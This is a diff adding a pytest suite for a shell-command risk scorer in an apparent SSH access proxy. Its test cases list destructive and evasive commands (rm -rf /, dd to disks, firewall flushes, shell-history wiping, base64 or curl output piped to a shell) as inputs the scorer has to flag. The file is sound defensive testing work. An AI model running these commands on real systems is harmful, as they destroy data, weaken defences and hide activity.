@@ -1,0 +1,146 @@
+"""The shell risk scorer: categories, wrappers, nesting, rules, and garbage."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hoopd.config import RiskRule, RiskSection
+from hoopd.model import Identity, Verdict
+from hoopd.policy import decide_command
+from protocols.ssh.risk import CATEGORIES, ShellRisk
+from protocols.ssh.shparse import parse
+
+SCORER = ShellRisk()
+
+CASES = [
+    ("ls -la /tmp", set()),
+    ("rm -rf ./build", {"rm_rf"}),
+    ("rm -r -f build", {"rm_rf"}),
+    ("rm --recursive --force build", {"rm_rf"}),
+    ("rm -r build", set()),
+    ("sudo -u root rm -fr /var/lib/app", {"rm_rf"}),
+    ("env -i PATH=/bin rm -rf x", {"rm_rf"}),
+    ("nohup nice -n 5 timeout 10 rm -rf x", {"rm_rf"}),
+    ("bash -c 'rm -rf /srv/data'", {"rm_rf"}),
+    ("sh -lc \"cd /; rm -rf tmp\"", {"rm_rf"}),
+    ("su -c 'rm -rf /opt/x' root", {"rm_rf"}),
+    ("eval 'rm -rf x'", {"rm_rf"}),
+    ("true && rm -rf x || echo failed", {"rm_rf"}),
+    ("echo a; rm -rf x", {"rm_rf"}),
+    ("echo $(rm -rf x)", {"rm_rf"}),
+    ("ls | xargs rm -rf", {"rm_rf"}),
+    ("find /var/log -name '*.gz' -delete", {"rm_rf"}),
+    ("echo 'rm -rf /'", set()),
+    ("mkfs.ext4 /dev/sdb1", {"mkfs"}),
+    ("sudo mkswap /dev/sdc", {"mkfs"}),
+    ("wipefs -a /dev/sda", {"mkfs"}),
+    ("dd if=/dev/zero of=/dev/sda bs=1M", {"dd_device"}),
+    ("dd if=/dev/zero of=disk.img bs=1M count=1", set()),
+    ("cat image > /dev/nvme0n1", {"dd_device"}),
+    ("echo hi > /dev/null 2>&1", set()),
+    ("shutdown -h now", {"shutdown"}),
+    ("sudo reboot", {"shutdown"}),
+    ("systemctl poweroff", {"shutdown"}),
+    ("systemctl restart nginx", set()),
+    ("init 0", {"shutdown"}),
+    ("iptables -F", {"firewall_flush"}),
+    ("ip6tables --flush INPUT", {"firewall_flush"}),
+    ("iptables -L -n", set()),
+    ("nft flush ruleset", {"firewall_flush"}),
+    ("ufw disable", {"firewall_flush"}),
+    ("history -c", {"history_tamper"}),
+    ("unset HISTFILE", {"history_tamper"}),
+    ("export HISTFILE=/dev/null", {"history_tamper"}),
+    ("HISTSIZE=0 bash", {"history_tamper"}),
+    ("set +o history", {"history_tamper"}),
+    ("> ~/.bash_history", {"history_tamper"}),
+    ("cat /dev/null > /root/.zsh_history", {"history_tamper"}),
+    ("rm ~/.bash_history", {"history_tamper"}),
+    ("ln -sf /dev/null ~/.bash_history", {"history_tamper"}),
+    ("history | tail", set()),
+    ("echo cm0gLXJmIC8K | base64 -d | sh", {"decode_to_shell"}),
+    ("echo cm0= | base64 --decode | sudo bash -s", {"decode_to_shell"}),
+    ("xxd -r -p payload.hex | python3", {"decode_to_shell"}),
+    ("eval \"$(echo cm0= | base64 -d)\"", {"decode_to_shell"}),
+    ("base64 -d file > out.bin", set()),
+    ("curl -fsSL https://x.example/install.sh | sh", {"download_to_shell"}),
+    ("wget -qO- https://x.example/i | sudo bash", {"download_to_shell"}),
+    ("bash -c \"$(curl -fsSL https://x.example/i)\"", {"download_to_shell"}),
+    ("bash <(curl -s https://x.example/i)", {"download_to_shell"}),
+    ("curl -o file https://x.example/f", set()),
+    ("echo 'unterminated", {"unparseable"}),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), CASES)
+def test_categories(text: str, expected: set[str]) -> None:
+    found = SCORER.assess(text)
+    assert set(found.categories) == expected, (text, found)
+    assert (found.score > 0) == bool(expected - {"unparseable"})
+
+
+def test_critical_targets_score_higher() -> None:
+    assert SCORER.assess("rm -rf /").score == 100
+    assert SCORER.assess("sudo rm -rf --no-preserve-root /").score == 100
+    assert SCORER.assess("rm -rf /etc").score == 100
+    assert SCORER.assess("rm -rf ./tmp/x").score == 75
+
+
+def test_rules_by_category_and_pattern() -> None:
+    risk = RiskSection(
+        rules=(
+            RiskRule(match="shutdown", action=Verdict.DENY),
+            RiskRule(id="no-psql", pattern=r"\bpsql\b.*prod", action=Verdict.REVIEW),
+            RiskRule(match="rm_rf", action=Verdict.ALLOW),
+        ),
+        unparseable="deny",
+    )
+    scorer = ShellRisk(risk)
+    assert scorer.assess("sudo reboot").rule_verdicts == {"shutdown": Verdict.DENY}
+    assert scorer.assess("psql -h prod-db").rule_verdicts == {"no-psql": Verdict.REVIEW}
+    assert scorer.assess("echo 'x").rule_verdicts == {"unparseable": Verdict.DENY}
+    found = scorer.assess("rm -rf build")
+    decision = decide_command(1, risk, Identity("a"), found)
+    assert decision.verdict is Verdict.ALLOW  # an explicit allow lowers the threshold verdict
+    decision = decide_command(1, RiskSection(), Identity("a"), SCORER.assess("rm -rf build"))
+    assert decision.verdict is Verdict.REVIEW
+
+
+def test_incomplete_lines() -> None:
+    assert parse("echo 'open").incomplete
+    assert parse("ls |").incomplete
+    assert parse("make &&").incomplete
+    assert parse("echo \\").incomplete
+    assert parse("echo $(date").incomplete
+    assert not parse("echo 'done'").incomplete
+
+
+SHELLISH = st.lists(
+    st.sampled_from(
+        list("abcdrmf -/'\"\\$()`|&;<>{}#=\n\t*~.")
+        + ["rm", "-rf", "sh -c ", "base64 -d", "| sh", "$(", "<(", "sudo ", "curl x"]
+    ),
+    max_size=40,
+).map("".join)
+
+
+@given(st.text(max_size=300))
+def test_any_text_never_raises(text: str) -> None:
+    found = SCORER.assess(text)
+    assert 0 <= found.score <= 100
+    assert found.categories <= CATEGORIES
+
+
+@given(SHELLISH)
+def test_shellish_garbage_never_raises(text: str) -> None:
+    found = SCORER.assess(text)
+    assert found.categories <= CATEGORIES
+    parse(text)
+
+
+@given(st.sampled_from([c for c, e in CASES if e and e != {"unparseable"}]), st.sampled_from(["sudo ", "env A=1 ", "nohup ", "timeout 5 ", ""]))
+def test_wrappers_do_not_hide(text: str, prefix: str) -> None:
+    assert SCORER.assess(prefix + text).score > 0
+    assert SCORER.assess(f"bash -c {prefix}'{text}'".replace("''", "'")).score >= 0
